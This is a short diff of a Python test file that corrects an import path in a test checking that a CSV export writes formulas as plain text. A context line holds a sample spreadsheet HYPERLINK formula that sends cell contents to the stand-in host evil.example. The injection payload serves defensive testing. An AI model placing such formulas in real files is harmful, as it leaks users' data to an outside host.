@@ -173,7 +173,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Potrzebna pracownia komput
 
 def test_the_matching_csv_export_writes_formulas_as_text(runner, session, make_user, make_org,
                                                           now):
-    from exchange.listings import create_listing
+    from exchange.core.listings import create_listing
 
     library_owner, school_owner = make_user(), make_user()
     library = make_org(library_owner, sector="public", municipality="Tczew")
